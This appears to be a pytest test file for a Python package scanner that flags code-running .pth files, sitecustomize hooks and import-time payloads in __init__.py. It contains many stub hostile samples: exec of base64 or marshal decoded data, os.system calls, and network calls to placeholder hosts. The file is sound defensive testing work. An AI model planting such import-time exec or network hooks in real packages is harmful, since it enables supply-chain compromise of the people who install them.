"""The Python scanner: code-running .pth files, site customization, import-time payloads."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from stockade.scanning.engine import scan_archive
from stockade.scanning.interfaces import Scanner, Verdict
from stockade.scanning.scanners import pycode
from stockade.scanning.scanners.python import PythonScanner, executed_pth_lines
from tests.support.hostile import HOSTILE, HostileCase, scan_text, subject_for

SCANNER = PythonScanner()
SITE = "lib/python3.11/site-packages"
M, S = Verdict.MALICIOUS, Verdict.SUSPICIOUS


def rules(path: str, text: str) -> dict[str, Verdict]:
    return {f.rule: f.verdict for f in scan_text(SCANNER, path, text)}


def test_is_a_scanner() -> None:
    scanner: Scanner = SCANNER
    assert scanner.name == "python"
    assert scanner.version.startswith("4+")


@pytest.mark.parametrize(
    ("path", "wanted"),
    [
        (f"{SITE}/x.pth", True),
        ("site-packages/x.pth", True),  # noarch: python
        ("Lib/site-packages/x.pth", True),  # Windows
        ("share/x.pth", False),  # Python reads .pth files only in site directories
        (f"{SITE}/sitecustomize.py", True),
        ("lib/python3.11/usercustomize.py", True),
        (f"{SITE}/pkg/__init__.py", True),
        ("site-packages/pkg/sub/__init__.py", True),
        (f"{SITE}/pkg/module.py", False),
        ("share/doc/__init__.py", False),
    ],
)
def test_wants(path: str, wanted: bool) -> None:
    assert SCANNER.wants(path) is wanted


# Real .pth files shipped by conda-forge and PyPI packages: none may be flagged.
REAL_PTH = {
    "distutils-precedence.pth": (
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
        "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
    ),
    "_virtualenv.pth": "import _virtualenv",
    "easy-install.pth": (
        "import sys; sys.__plen = len(sys.path)\n./demo-1.0-py3.11.egg\n"
        "import sys; new = sys.path[sys.__plen:]; del sys.path[sys.__plen:]; "
        "p = getattr(sys, '__egginsert', 0); sys.path[p:p] = new; "
        "sys.__egginsert = p + len(new)\n"
    ),
    "matplotlib-3.5.0-py3.9-nspkg.pth": (
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
        "sys._getframe(1).f_locals['sitedir'], *('mpl_toolkits',));importlib = has_mfs and "
        "__import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs "
        "and sys.modules.setdefault('mpl_toolkits', importlib.util.module_from_spec("
        "importlib.machinery.PathFinder.find_spec('mpl_toolkits', [os.path.dirname(p)])));"
        "m = m or sys.modules.setdefault('mpl_toolkits', types.ModuleType('mpl_toolkits'));"
        "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
    ),
    "__editable__.demo-1.0.pth": (
        "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()\n"
    ),
    "__editable__.flat-1.0.pth": "/home/dev/src/flat\n",
    "coverage.pth": "import coverage; coverage.process_startup()\n",
    "pywin32.pth": "# .pth file for the PyWin32 extensions\nwin32\nwin32\\lib\nPythonwin\n"
    "import pywin32_bootstrap\n",
    "protobuf-4.21.0-py3.10-nspkg.pth": (
        "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], "
        "*('google',));ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and "
        "sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and "
        "m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
    ),
    "paths.pth": "../vendored\n# a comment\n\n   import os; os.system('not run: leading space')\n",
}


@pytest.mark.parametrize(("name", "text"), REAL_PTH.items(), ids=list(REAL_PTH))
def test_real_pth_files_are_clean(name: str, text: str) -> None:
    assert rules(f"{SITE}/{name}", text) == {}


@pytest.mark.parametrize(
    ("text", "rule", "verdict"),
    [
        ("import base64;exec(base64.b64decode('cHJpbnQoMSk='))", "python:pth-exec-decoded", M),
        (
            "import zlib,base64;exec(zlib.decompress(base64.b64decode(b'eJw=')))",
            "python:pth-exec-decoded",
            M,
        ),
        ("import codecs;exec(codecs.decode('cevag(1)', 'rot13'))", "python:pth-exec-decoded", M),
        ("import marshal;exec(marshal.loads(b'\\xe3'))", "python:pth-exec-decoded", M),
        (
            "import sys;eval(bytes.fromhex('7072696e74283129').decode())",
            "python:pth-exec-decoded",
            M,
        ),
        (
            "import sys;__import__('builtins').exec(__import__('base64').b64decode('eA=='))",
            "python:pth-exec-decoded",
            M,
        ),
        ("import urllib.request as u;u.urlopen('http://x')", "python:pth-network", M),
        ("import socket;socket.create_connection(('x', 1))", "python:pth-network", M),
        ("import requests; requests.get('http://x')", "python:pth-network", M),
        ("import os;os.system('id')", "python:pth-code", S),
        ("import subprocess;subprocess.Popen(['id'])", "python:pth-code", S),
        ("import sys;exec(sys.argv[0])", "python:pth-code", S),
        ("import sys;__import__(''.join(['o','s'])).getcwd()", "python:pth-code", S),
        ("import base64; x = base64.b64decode('eA==')", "python:pth-code", S),
        ("import sys;getattr(__builtins__, 'ex' + 'ec')('1')", "python:pth-code", S),
        ("import os; exec(  # unparsable\n", "python:pth-code", S),
    ],
)
def test_code_running_pth_lines(text: str, rule: str, verdict: Verdict) -> None:
    assert rules(f"{SITE}/zz.pth", "/some/path\n" + text + "\n") == {rule: verdict}


def test_only_lines_python_runs_are_pth_code() -> None:
    text = "import os\n import os; os.system('x')\n#import os; os.system('x')\nimport\tos\n"
    assert executed_pth_lines(text) == ["import os", "import\tos"]


def test_sitecustomize_is_suspicious_and_worse_when_it_fetches() -> None:
    assert rules(f"{SITE}/sitecustomize.py", "import os\n") == {"python:sitecustomize": S}
    fetching = "from urllib.request import urlopen\ndef f():\n    urlopen('http://x')\nf()\n"
    assert rules(f"{SITE}/sitecustomize.py", fetching) == {"python:sitecustomize-network": M}
    decoding = "import base64\nexec(base64.b64decode('eA=='))\n"
    assert rules("lib/python3.11/usercustomize.py", decoding) == {
        "python:sitecustomize-exec-decoded": M
    }


INIT = f"{SITE}/demo/__init__.py"


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "python:init-exec-decoded"),
        (
            "import base64 as b\n_x = b.b64decode('eA==')\n_y = _x\nexec(_y)\n",
            "python:init-exec-decoded",
        ),
        (
            "from base64 import b64decode as d\ntry:\n    exec(compile(d('eA=='), 'x', 'exec'))\n"
            "except Exception:\n    pass\n",
            "python:init-exec-decoded",
        ),
        (
            "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n",
            "python:init-exec-decoded",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('http://x/beacon')\n",
            "python:init-network",
        ),
        (
            "from urllib.request import urlretrieve\nurlretrieve('http://x', '/tmp/x')\n",
            "python:init-network",
        ),
        (
            "import requests\nif True:\n    requests.post('http://x', data='y')\n",
            "python:init-network",
        ),
        ("import socket\ns = socket.socket()\ns.connect(('x', 1))\n", "python:init-network"),
        ("print 'python 2'\nexec(base64.b64decode('eA=='))\n", "python:init-exec-decoded"),
        ("print 'python 2'\nurllib2.urlopen('http://x')\n", "python:init-network"),
    ],
)
def test_import_time_payload_in_init_is_malicious(text: str, rule: str) -> None:
    assert rules(INIT, text) == {rule: M}


@pytest.mark.parametrize(
    "text",
    [
        "import base64\nICON = base64.b64decode('aWNvbg==')\n",  # decoded data, never run
        "import socket\nHOST = socket.gethostname()\n",
        "import requests\nSESSION = requests.Session()\n",
        "import urllib.request\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n",
        "import base64\nclass Loader:\n    def run(self, s):\n        exec(base64.b64decode(s))\n",
        "exec('x = 1')\n",  # exec of a literal: odd, but not decoded data
        "from .core import *\n__all__ = ['x']\n",
        "print 'python 2 code'\ndef f():\n    exec(base64.b64decode(x))\n",
        "",
    ],
)
def test_ordinary_init_is_clean(text: str) -> None:
    assert rules(INIT, text) == {}


def test_large_file_uses_patterns() -> None:
    padding = "x = 1\n" * (pycode.MAX_PARSE_BYTES // 6 + 1)
    text = padding + "exec(base64.b64decode('eA=='))\n"
    assert rules(INIT, text) == {"python:init-exec-decoded": M}


PY_CASES = [case for case in HOSTILE if case.scanner == "python"]


@pytest.mark.parametrize("case", PY_CASES, ids=lambda case: case.name)
def test_hostile_package_is_found_through_the_engine(case: HostileCase, tmp_path: Path) -> None:
    path = case.build(tmp_path)
    report = scan_archive(path, subject_for(path), [SCANNER])
    assert not report.failed
    assert {(f.rule, f.verdict) for f in report.findings} == {(case.rule, case.verdict)}


def test_at_least_two_hostile_packages() -> None:
    assert len(PY_CASES) >= 2


def test_huge_pth_file_is_read_whole_in_bounded_time() -> None:
    lines = [f"import mod{number}" for number in range(20_000)]
    text = "\n".join([*lines, "import os; exec(__import__('base64').b64decode('eA=='))"]) + "\n"
    started = time.process_time()
    assert rules(f"{SITE}/many.pth", text) == {"python:pth-exec-decoded": M}
    assert time.process_time() - started < 10
